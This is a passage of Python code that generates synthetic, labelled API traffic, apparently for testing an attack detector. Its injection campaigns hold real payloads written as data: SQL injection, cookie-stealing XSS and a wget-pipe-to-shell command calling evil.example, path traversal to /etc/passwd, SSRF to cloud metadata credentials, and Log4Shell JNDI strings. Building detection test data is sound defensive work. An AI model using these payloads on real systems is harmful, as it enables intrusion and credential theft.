            self.x(t, ip, LEDGER, "GET", "/accounts", 200 if hit else 404, query=f"account_id={acc}", headers=a2,
                   response={"account_id": acc} if hit else {"error": "account_not_found"}, agent="python-httpx/0.27")
            t += rng.uniform(0.3, 1.5)
        # mass harvest: the order search with the account filter left out and huge pages
        ip = ips["harvest"]
        self._add("mass harvest through the order search", "mass_harvest", ip)
        a3 = (("Authorization", f"Bearer {self.ids.token(48)}"),)
        t = t0 + 600
        everyone = self.world.of(LEDGER)
        for page in range(5):
            orders = [{"order_id": o, "account_id": u.accounts[0], "ship_to": "x"} for u, o in _cycle(_owned(everyone), 500)]
            self.x(t, ip, LEDGER, "POST", "/orders/search", 200, headers=a3, json_body={"page_size": 500, "page_token": f"t{page}"},
                   response={"orders": orders, "next_page_token": f"t{page + 1}"}, pii=(("ADDRESS", len(orders)),))
            t += rng.uniform(20, 40)
        # bfla: an ordinary user exporting and freezing accounts through the internal functions
        ip = ips["bfla"]
        self._add("user calling internal functions", "bfla", ip, frozenset({"anomaly", "bola"}))
        a4 = (("Authorization", f"Bearer {self.ids.token(48)}"),)
        t = t0 + 400
        for k in range(3):
            self.x(t, ip, LEDGER, "GET", "/internal/accounts/export", 200, query="limit=20", headers=a4,
                   response={"accounts": [{"account_id": u.accounts[0], "email": u.email} for u in everyone[k * 5 : k * 5 + 5]]},
                   pii=(("EMAIL", 5),))
            t += rng.uniform(30, 90)
        # anomaly: quiet reconnaissance over many query-style endpoints
        self._recon(LEDGER, ips["anomaly"], t0 + 1500, lambda k, r: (f"/{r}", f"/{r}"), 403, query=True)

    def _rpc_incidents(self, rep: int, t0: float, ips: dict[str, str]) -> None:
        rng = self.rng
        key = (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)
        agent = "acme-sdk-python/3.4.1"
        victims = self._victims(RPC, 30)
        # bola: other customers' invoices by id, in the query and in update bodies
        ip = ips["bola"]
        self._add("slow BOLA walk over invoices (RPC)", "bola", ip, frozenset({"anomaly", "enumeration"}))
        for k, t in enumerate(self._walk_times(t0, 9)):
            i = rng.choice(victims[k].objects)
            if k % 3 == 2:
                self.x(t, ip, RPC, "POST", "/api/invoices.update", 200, headers=key, json_body={"id": i, "memo": "paid"}, agent=agent,
                       response={"ok": True})
            else:
                self.x(t, ip, RPC, "GET", "/api/invoices.get", 200, query=f"id={i}", headers=key, agent=agent,
                       response={"ok": True, "invoice": {"id": i, "customer_email": victims[k].email}}, pii=(("EMAIL", 1),))
        # enumeration: guessed invoice ids in POST bodies, mostly 404
        ip = ips["enum"]
        self._add("invoice id guessing in RPC bodies, mostly not found", "enumeration", ip, frozenset({"anomaly", "bola", "scanner"}))
        key2 = (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)
        t = t0 + 300
        real = [i for u in victims for i in u.objects]
        for k in range(rng.randint(60, 90)):
            hit = k % 8 == 5
            i = rng.choice(real) if hit else self.ids.hex40()
            # half the misses 404, half 200 {"ok": false} (Slack-style APIs answer every call 200)
            self.x(t, ip, RPC, "POST", "/api/invoices.get", 200 if hit or k % 2 else 404, headers=key2, json_body={"id": i}, agent=agent,
                   response={"ok": True, "invoice": {"id": i}} if hit else {"ok": False, "error": "invoice_not_found"})
            t += rng.uniform(0.3, 1.2)
        # mass harvest: the listing asked for everything, in the envelope
        ip = ips["harvest"]
        self._add("mass harvest through invoices.list", "mass_harvest", ip)
        key3 = (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)
        everyone = self.world.of(RPC)
        t = t0 + 600
        for page in range(5):
            inv = [{"id": i, "customer_email": u.email} for u, i in _cycle(_owned(everyone), 500)]
            self.x(t, ip, RPC, "POST", "/api/invoices.list", 200, headers=key3, json_body={"limit": 500, "all_customers": True},
                   agent=agent, response={"ok": True, "result": {"invoices": inv, "next_cursor": f"c{page}"}}, pii=(("EMAIL", len(inv)),))
            t += rng.uniform(20, 40)
        # bfla: an ordinary API key calling admin methods
        ip = ips["bfla"]
        self._add("API key calling admin methods", "bfla", ip, frozenset({"anomaly", "bola"}))
        key4 = (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)
        t = t0 + 400
        for k in range(3):
            self.x(t, ip, RPC, "POST", "/api/admin.users.setRole", 200, headers=key4, agent=agent,
                   json_body={"user_id": everyone[k].uid, "role": "admin"}, response={"ok": True})
            t += rng.uniform(30, 90)
        # anomaly: probing many RPC methods; the API answers 200 {"ok": false} to unknown ones
        self._recon(RPC, ips["anomaly"], t0 + 1500, lambda k, r: (f"/api/{r}.{['list', 'get', 'export', 'delete'][k % 4]}",) * 2, 200,
                    envelope=True)

    def _recon(self, host: str, ip: str, t: float, path: Callable[[int, str], tuple[str, str]], status: int, *,
               query: bool = False, envelope: bool = False) -> None:
        self._add(f"quiet reconnaissance on {host}", "anomaly", ip, frozenset({"scanner", "enumeration", "bola", "bfla"}))
        rng = self.rng
        a = (("Authorization", f"Bearer {self.ids.token(48)}"),) if host == LEDGER else (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)
        if host == DOCS:
            a = (("Cookie", f"sessionid={self.ids.token(40)}"),)
        resources = ["tenants", "keys", "exports", "billing", "audit", "webhooks", "members", "teams", "tokens", "reports", "usage",
                     "secrets"]
        for k in range(45):
            r = rng.choice(resources) + ("" if k < 12 else f"{k % 5}")
            concrete, template = path(k, r)
            self.x(t, ip, host, "GET", concrete, status, query=f"id={k}" if query else "", headers=a, template=template,
                   response={"ok": False, "error": "not_allowed"} if envelope else {"error": "forbidden"})
            t += rng.uniform(3, 7)

    def _login_attacks(self, host: str, rep: int, t0: float, ips: dict[str, str]) -> None:
        rng = self.rng
        ip = ips["stuff"]
        self._add(f"credential stuffing on {host}", "credential_stuffing", ip)
        t = t0 + 200
        agent = rng.choice(["python-requests/2.32.3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0", "okhttp/4.12.0"])
        for k in range(rng.randint(40, 80)):
            ok = k % 23 == 11
            user = f"leak{rep}.{k}@corp{k % 5}.example" if host == DOCS else f"leak{rep}_{k}"
            self.login(t, ip, host, user, f"Summer{2020 + k % 5}!", ok, agent=agent, credential=self.ids.token(40), web=host == DOCS)
            t += rng.uniform(1, 4)
        ip = ips["brute"]
        self._add(f"brute force on one account on {host}", "brute_force", ip)
        victim = self._victims(host, 5)[rep]
        t = t0 + 900
        for k in range(rng.randint(25, 50)):
            self.login(t, ip, host, victim.email if host in (DOCS, RPC) else victim.name, f"{victim.name}{k:03d}", False,
                       envelope=host == RPC)
            t += rng.uniform(1, 3)

    def _injections(self, host: str, rep: int, t0: float, ips: dict[str, str]) -> None:
        """Injection campaigns per subtype, in the places this style carries values: JSON and form
        bodies, headers, cookies, the query."""
        rng = self.rng
        acceptable = frozenset({"anomaly", "scanner"} | {f"injection:{o}" for o in ("sqli", "xss", "path_traversal", "cmd_injection")})
        creds = {DOCS: lambda: (("Cookie", f"sessionid={self.ids.token(40)}"),),
                 LEDGER: lambda: (("Authorization", f"Bearer {self.ids.token(48)}"),),
                 RPC: lambda: (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)}[host]
        path = {DOCS: "/v2/search", LEDGER: "/orders/search", RPC: "/api/invoices.list"}[host]
        post = host != DOCS
        campaigns: dict[str, list[dict[str, object]]] = {
            "sqli": [
                {"body": {"query": "x' OR 1=1-- -", "page_size": 20}} if post else {"query": "q=" + quote("x' OR 1=1-- -")},
                {"cookie": "lang=en' UNION SELECT username,password FROM users--"},
                {"body": {"status": "paid' AND SLEEP(5)#"}} if post else {"query": "type=" + quote("document' AND SLEEP(5)#")},
            ],
            "xss": [
                {"form": {"subject": "hi", "body": "<script>document.location='//evil.example/?c='+document.cookie</script>"}},
                {"header": ("Referer", "https://docs.example/\"><svg/onload=alert(1)>")},
                {"body": {"text": "<iframe src=javascript:alert(origin)>"}} if post else {"query": "q=" + quote("<img src=x onerror=prompt(1)>")},
            ],
            "path_traversal": [
                {"body": {"template": "../../../../etc/passwd"}} if post else {"query": "q=a&template=" + quote("../../../../etc/passwd")},
                {"query": "export=" + quote("..\\..\\..\\windows\\win.ini")},
                {"cookie": "theme=../../../../../proc/self/environ"},
            ],
            "cmd_injection": [
                {"body": {"memo": "x; cat /etc/passwd"}} if post else {"query": "q=" + quote("x; cat /etc/passwd")},
                {"form": {"subject": "hi", "body": "$(wget -qO- http://evil.example/a.sh | sh)"}},
                {"header": ("X-Report-Name", "report`id`.pdf")},
            ],
            "ssrf": [
                {"body": {"callback_url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}},
                {"form": {"subject": "hi", "webhook": "http://metadata.google.internal/computeMetadata/v1/"}},
                {"body": {"avatar_url": "file:///etc/passwd"}},
            ],
            "jndi": [
                {"header": ("User-Agent", "${jndi:ldap://evil.example:1389/Exploit}")},
                {"header": ("X-Forwarded-Prefix", "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/a}")},
                {"cookie": "tracking=${jndi:rmi://evil.example/o}"},
            ],
        }
        for k, (subtype, requests) in enumerate(campaigns.items()):
            ip = ips[subtype]
            self._add(f"{subtype} campaign on {host}", f"injection:{subtype}", ip, acceptable)
            a = creds()
            t = t0 + 100 + 150 * k
            for req in requests:
                headers = list(a)
                if "header" in req:
                    headers.append(req["header"])  # type: ignore[arg-type]
                if "cookie" in req:
                    cookie = str(req["cookie"])
                    headers = [(n, f"{v}; {cookie}" if n == "Cookie" else v) for n, v in headers]
                    if not any(n == "Cookie" for n, _ in headers):
                        headers.append(("Cookie", cookie))
                form = req.get("form")
                body = req.get("body")
                method = "POST" if (post or form is not None or body is not None) else "GET"
                target = "/support/messages" if form is not None and host == LEDGER else "/v2/notes" if form is not None else path
                if body is not None and not post:
                    target = "/v2/notes"
                self.x(t, ip, host, method, target, 200, query=str(req.get("query", "")), headers=tuple(headers),
                       json_body=body if form is None else None, form=form,  # type: ignore[arg-type]
                       response={"ok": True, "result": {"items": []}})
                t += rng.uniform(5, 30)

    def _scanner(self, host: str, rep: int, t0: float, ip: str) -> None:
        rng = self.rng
        self._add(f"scanner on {host}", "scanner", ip, frozenset({"anomaly", "injection:path_traversal"}))
        t = t0 + 1200
        if rep % 3 == 0:  # dirb's default user agent and word list against the web app's host: every path 200, the index page
            words = ["admin", "backup", "cgi-bin", "config", "console", "db", "debug", "dev", "download", "dump", "env", "files",
                     "git", "hidden", "include", "install", "log", "logs", "manager", "old", "phpmyadmin", "private", "secret",
                     "server-status", "setup", "sql", "staging", "temp", "test", "tmp", "upload", "uploads", "user", "vendor",
                     "web.config", "wp-admin", "wp-login.php", ".env", ".git/HEAD", ".htaccess", "xmlrpc.php", "api-docs"]
            agent = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
            for p in [f"/{w}" for w in rng.sample(words, 40)]:
                self.out.exchanges.append(_spa(t, ip, p, agent))
                t += rng.uniform(0.05, 0.3)
            return
        elif rep % 3 == 1:  # a content-discovery wordlist, no tool name in the user agent
            words = ["api/v3", "graphql", "v1/debug", "internal/metrics", "beta", "old-api", "backup", "archive", "exports",
                     "swagger.yaml", "openapi.yml", "console/login", "management", "status/full", "api/private", "stage", "dev-api",
                     "test", "upload", "tmp", "logs", "sql", "db", "v0", "mobile-api", "partner", "legacy", "hidden"]
            paths = [f"/{w}" for w in rng.sample(words, 26)]
            agent = "Go-http-client/1.1"
        else:  # a named tool
            paths = [f"/api/{w}" for w in rng.sample(["files.upload", "debug.info", "system.exec", "env.dump", "db.query", "auth.bypass",
                                                      "users.export", "keys.list"], 8)]
            agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) nuclei/3.2.9"
        for p in paths:
            self.out.exchanges.append(_untemplated(t, ip, host, p, agent))
            t += rng.uniform(0.2, 1.0)


def _owned(users: list[_User]) -> list[tuple[_User, str]]:
    return [(u, o) for u in users for o in u.objects]


def _cycle(items: list[T], n: int) -> list[T]:
    """``n`` items, repeating ``items`` (a harvest page is full however small the world is)."""
    return [items[k % len(items)] for k in range(n)]


def _spa(ts: float, ip: str, path: str, agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0") -> DetectExchange:
    """docs.example's web app: a path no endpoint matches, answered 200 with the index page."""
    return DetectExchange(ts=ts, client_ip=ip, host=DOCS, method="GET", path=path, status=200,
                          request_headers=(("Host", DOCS), ("User-Agent", agent), ("Accept", "text/html")),
                          response_headers=(("Content-Type", "text/html"),), response_body=SPA_INDEX.encode(),
                          response_content_type="text/html")


def _untemplated(ts: float, ip: str, host: str, path: str, agent: str) -> DetectExchange:
    return DetectExchange(ts=ts, client_ip=ip, host=host, method="GET", path=path, status=404,
                          request_headers=(("Host", host), ("User-Agent", agent)),
                          response_headers=(("Content-Type", "application/json"),), response_body=b'{"error":"not_found"}',
                          response_content_type="application/json")


def generate(seed: int = 1, users: int = 160, start: float = START, with_incidents: bool = True, reps: int = 3) -> Traffic:
    """One hour of three services' traffic, in timestamp order, with its labels."""
    if users < MIN_USERS:
        raise ValueError(f"gen_styles needs at least {MIN_USERS} users (10 per service: the incidents' victims), got {users}")
    gen = _Gen(seed, users, start)
    nat = "203.0.113.77"
    gen.out.trap_ips[nat] = "NAT address shared by many users"
    for user in gen.world.users:
        ip = nat if user.n < 40 else f"100.72.{user.n // 200}.{user.n % 200 + 1}"
        gen.out.benign_ips.add(ip)
        gen.session(user, ip, start + gen.rng.uniform(0, 300), start + HOUR)
    gen.traps()
    if with_incidents:
        for rep in range(reps):
            gen.incidents(rep)
    gen.out.exchanges.sort(key=lambda x: x.ts)
    return gen.out
